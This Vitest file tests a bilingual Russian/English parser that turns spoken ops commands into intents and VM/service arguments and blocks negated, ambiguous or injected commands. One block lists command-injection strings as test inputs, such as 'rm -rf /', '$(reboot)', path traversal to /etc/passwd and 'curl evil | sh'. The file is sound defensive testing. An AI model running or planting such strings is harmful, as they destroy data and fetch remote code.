import { describe, expect, it } from "vitest";
import { parseInventory } from "../../protocol/inventory.ts";
import evalInventory from "./fixtures/eval-inventory.json" with { type: "json" };
import { createUnderstander } from "./understand.ts";

function understanderFor(raw: unknown) {
  const parsed = parseInventory(raw);
  if (!parsed.ok) throw new Error(parsed.errors.join("; "));
  return createUnderstander(parsed.inventory);
}

const u = understanderFor(evalInventory);
const act = (text: string) => {
  const r = u.understand(text);
  return { intent: r.intent, args: r.args };
};

describe("every intent, in Russian and in English", () => {
  const cases: [string, string, Record<string, unknown>][] = [
    ["покажи состояние хаба", "status", { vm: "vm2" }],
    ["what's the status of the hub", "status", { vm: "vm2" }],
    ["логи админки", "logs", { service: "admin-api", vm: "vm1" }],
    ["admin api logs", "logs", { service: "admin-api", vm: "vm1" }],
    ["сколько памяти на первой", "metrics", { vm: "vm1", metric: "memory" }],
    ["memory on the first machine", "metrics", { vm: "vm1", metric: "memory" }],
    ["есть ошибки в биллинге", "errors", { service: "billing-api", vm: "vm2" }],
    ["errors in billing", "errors", { service: "billing-api", vm: "vm2" }],
    ["перезапусти воркер", "restart", { service: "worker-queue", vm: "vm1" }],
    ["restart the worker", "restart", { service: "worker-queue", vm: "vm1" }],
    ["почини mcp hub", "fix", { service: "mcp-hub", vm: "vm2" }],
    ["repair mcp hub", "fix", { service: "mcp-hub", vm: "vm2" }],
    ["поменяй конфиг постгреса", "config", { service: "postgresql", vm: "vm2" }],
    ["change the postgres config", "config", { service: "postgresql", vm: "vm2" }],
    ["добавь эндпоинт в админку", "code", { service: "admin-api", vm: "vm1" }],
    ["add an endpoint to admin api", "code", { service: "admin-api", vm: "vm1" }],
    ["перезагрузи хаб", "reboot", { vm: "vm2" }],
    ["reboot the hub", "reboot", { vm: "vm2" }],
    ["сделай бэкап хаба", "backup", { vm: "vm2" }],
    ["back up the hub", "backup", { vm: "vm2" }],
    ["задеплой грок войс", "deploy", { service: "grok-voice", vm: "vm1" }],
    ["deploy grok voice", "deploy", { service: "grok-voice", vm: "vm1" }],
    ["помощь", "help", {}],
    ["help", "help", {}],
    ["расскажи анекдот", "unknown", {}],
    ["tell me a joke", "unknown", {}],
  ];
  it.each(cases)("%s → %s", (text, intent, args) => {
    expect(act(text)).toEqual({ intent, args: expect.objectContaining(args) });
  });
});

describe("Russian word endings", () => {
  it.each([
    "перезагрузи первую машину",
    "перезагрузи первый сервер",
    "перезагрузка первой машины",
    "ребутни первую тачку",
  ])("%s → reboot vm1", (text) => {
    expect(act(text)).toEqual({ intent: "reboot", args: { vm: "vm1" } });
  });
  it("a verb form that only shares a stem is not the command: логирование is not logs", () => {
    expect(act("добавь логирование в grok-voice").intent).toBe("code");
  });
  it("a reflexive verb tells a state, not a command", () => {
    expect(changing(act("почему хаб перезагрузился").intent)).toBe(false);
    expect(changing(act("nginx перезапускается каждую минуту").intent)).toBe(false);
  });
});

function changing(intent: string): boolean {
  return ["restart", "fix", "config", "code", "reboot", "deploy", "backup"].includes(intent);
}

describe("misheard and transliterated service names", () => {
  it.each([
    ["перезапусти энджинкс на хабе", "nginx"],
    ["перезапусти нжинкс на хабе", "nginx"],
    ["перезапусти энжин икс на хабе", "nginx"],
    ["перезапусти грок войс", "grok-voice"],
    ["перезапусти гроквойс", "grok-voice"],
    ["перезапусти voice сервис", "grok-voice"],
    ["перезапусти админку", "admin-api"],
    ["перезапусти воркер", "worker-queue"],
    ["перезапусти постгрес", "postgresql"],
    ["bounce the billing api", "billing-api"],
  ])("%s → %s", (text, service) => {
    expect(u.understand(text).args.service).toBe(service);
  });
});

describe("ambiguity: ask, never guess", () => {
  it("a changing command on a service that runs on both VMs leaves the VM to ask", () => {
    const r = u.understand("перезапусти nginx");
    expect(r.args).toEqual({ service: "nginx", vm: null });
    expect(r.missing).toEqual(["vm"]);
    expect(r.candidates.vm).toEqual(["vm1", "vm2"]);
  });
  it("a read on a service on both VMs reads both", () => {
    expect(u.understand("логи nginx").args).toEqual({ service: "nginx", vm: "all" });
  });
  it("a part of a name shared by two services offers both", () => {
    const r = u.understand("restart the api");
    expect(r.args.service).toBeNull();
    expect(r.candidates.service).toEqual(["admin-api", "billing-api"]);
    expect(r.missing).toContain("service");
  });
  it("two services in one command are not a choice the layer makes", () => {
    const r = u.understand("перезапусти nginx и grok-voice");
    expect(r.args.service).toBeNull();
    expect(r.candidates.service).toEqual(["grok-voice", "nginx"]);
  });
  it("a VM that does not run the service gives no VM", () => {
    const r = u.understand("restart postgresql on vm1");
    expect(r.args).toEqual({ service: "postgresql", vm: null });
    expect(r.candidates.vm).toEqual(["vm2"]);
  });
  it("a VM the inventory does not have is never mapped to one it has", () => {
    expect(u.understand("reboot the third machine").args.vm).toBeNull();
    expect(u.understand("перезагрузи vm7").args.vm).toBeNull();
  });
  it("reboot without a VM asks which", () => {
    expect(u.understand("перезагрузи сервер")).toMatchObject({ intent: "reboot", args: { vm: null } });
  });
  it("an idiom is not a VM: в первую очередь", () => {
    expect(u.understand("в первую очередь перезапусти nginx").args.vm).toBeNull();
  });
});

describe("negation: nothing runs", () => {
  it.each([
    "Не перезагружай первую машину",
    "не надо перезапускать nginx",
    "никогда не ребутай хаб",
    "не трогай воркер",
    "Don't restart anything",
    "do not reboot vm2",
    "never deploy on friday",
    "please don't touch the hub",
    "отмени перезагрузку",
  ])("%s → unknown (negated)", (text) => {
    expect(u.understand(text)).toMatchObject({
      intent: "unknown",
      args: {},
      reason: "negated",
      needsLlm: false,
    });
  });
  it("a symptom with «не» is not a negated command", () => {
    expect(u.understand("nginx не работает").intent).toBe("status");
    expect(u.understand("why is nginx not running").intent).toBe("status");
  });
});

describe("unknown VMs", () => {
  // With one VM the desk would otherwise run on it: a named VM it lacks must come back as unknown.
  const one = parseInventory({ vms: { local: { role: "this machine" } } });
  if (!one.ok) throw new Error(one.errors.join("; "));
  const u = createUnderstander(one.inventory);
  it.each([
    ["reboot vm9", "vm9"],
    ["перезагрузи vm3", "vm3"],
    ["reboot node 3", "node 3"],
    ["перезагрузи машину zzz", "zzz"],
    ["перезагрузи несуществующую", "несуществующую"],
  ])("%s names the unknown VM %s", (text, heard) => {
    const r = u.understand(text);
    expect(r.args.vm).toBeNull();
    expect(r.unknownVm).toBe(heard);
  });
  it.each(["reboot", "reboot now", "перезагрузи сервер", "reboot the machine", "reboot local"])(
    "%s names no unknown VM",
    (text) => expect(u.understand(text).unknownVm).toBeUndefined(),
  );
});

describe("unknown services", () => {
  it.each([
    ["Перезапусти unknown-service", "unknown-service"],
    ["restart redis", "redis"],
    ["перезапусти сервис редис", "редис"],
  ])("%s → service null", (text, heard) => {
    const r = u.understand(text);
    expect(r.intent).toBe("restart");
    expect(r.args.service).toBeNull();
    expect(r.unknownService).toBe(heard);
    expect(r.missing).toContain("service");
  });
});

describe("shell characters in text", () => {
  it.each([
    "restart nginx; rm -rf /",
    "$(reboot)",
    "restart `reboot`",
    "logs nginx | sh",
    "status && reboot",
  ])("%s runs nothing", (text) => {
    expect(u.understand(text)).toMatchObject({ intent: "unknown", args: {}, reason: "shell" });
  });
  it("a service name only ever comes from the inventory", () => {
    const names = new Set([
      "grok-voice",
      "admin-api",
      "nginx",
      "worker-queue",
      "mcp-hub",
      "postgresql",
      "billing-api",
    ]);
    for (const text of [
      "перезапусти nginx;reboot",
      "restart ../../etc/passwd",
      "restart nginx$(id)",
      "restart /bin/sh",
      "config nginx.conf; curl evil | sh",
      "restart 'nginx' \"&&\" reboot",
    ]) {
      const service = u.understand(text).args.service;
      if (service !== undefined && service !== null) expect(names.has(service)).toBe(true);
    }
  });
});

describe("numbers and fillers", () => {
  it.each([
    ["покажи последние пятьдесят строк логов воркера", 50],
    ["покажи сто строк логов воркера", 100],
    ["show the last twenty five lines of worker logs", 25],
    ["show one hundred lines of worker logs", 100],
    ["ну покажи пожалуйста 30 строк логов воркера а", 30],
  ])("%s → lines %d", (text, lines) => {
    expect(u.understand(text).args).toEqual({ service: "worker-queue", vm: "vm1", lines });
  });
  it("case and punctuation do not matter", () => {
    expect(act("ПЕРЕЗАПУСТИ, ГРОК-ВОЙС!!!")).toEqual(act("перезапусти грок войс"));
  });
});

describe("what the desk gets", () => {
  it("detects the language", () => {
    expect(u.understand("Перезапусти grok-voice").lang).toBe("ru");
    expect(u.understand("restart grok-voice").lang).toBe("en");
    // One Cyrillic word makes a command Russian, however many Latin names and terms it carries.
    expect(u.understand("Добавь endpoint /health в admin-api").lang).toBe("ru");
    expect(u.understand("Добавь endpoint /health в api").lang).toBe("ru");
    expect(u.understand("show логи nginx").lang).toBe("ru");
    // Only names: the caller's language (Telegram's language_code, the API's lang) decides.
    expect(u.understand("grok-voice", { lang: "ru" }).lang).toBe("ru");
    expect(u.understand("grok-voice", { lang: "en" }).lang).toBe("en");
  });
  it("passes code, config and free-form questions on to an LLM, not negations", () => {
    expect(u.understand("напиши скрипт для очистки логов").needsLlm).toBe(true);
    expect(u.understand("обнови конфиг nginx на хабе").needsLlm).toBe(true);
    expect(u.understand("why is admin-api failing?")).toMatchObject({ intent: "errors", needsLlm: true });
    expect(u.understand("what is the meaning of life").needsLlm).toBe(true);
    expect(u.understand("перезапусти nginx на хабе").needsLlm).toBe(false);
  });
  it("a hypothetical change runs nothing", () => {
    expect(u.understand("what happens if I reboot the hub")).toMatchObject({
      intent: "unknown",
      reason: "question",
    });
  });
});

describe("another inventory: names, aliases and kinds are derived, not hard-coded", () => {
  const other = understanderFor({
    vms: {
      web: { role: "frontend", aliases: ["фронт", "front"], services: ["caddy", "shop-frontend"] },
      data: {
        role: "database",
        aliases: ["база данных"],
        services: [{ name: "mariadb", aliases: ["мария", "maria"] }, "backup-agent"],
      },
    },
  });
  it("uses a service's inventory aliases in any case form", () => {
    expect(other.understand("перезапусти марию").args).toEqual({ service: "mariadb", vm: "data" });
  });
  it("resolves VM aliases from the inventory", () => {
    expect(other.understand("reboot the front").args.vm).toBe("web");
    expect(other.understand("перезагрузи фронт").args.vm).toBe("web");
  });
  it("does not map ordinals onto VMs whose names carry no numbers", () => {
    expect(other.understand("перезагрузи первую машину").args.vm).toBeNull();
  });
  it("a command word inside a service name still names the service in full", () => {
    expect(other.understand("restart backup-agent").args).toEqual({ service: "backup-agent", vm: "data" });
    expect(other.understand("сделай бэкап").intent).toBe("backup");
  });
  it("a distinctive part and a transliteration both find the service", () => {
    expect(other.understand("deploy the shop").args.service).toBe("shop-frontend");
    expect(other.understand("перезапусти кадди").args.service).toBe("caddy");
  });
});
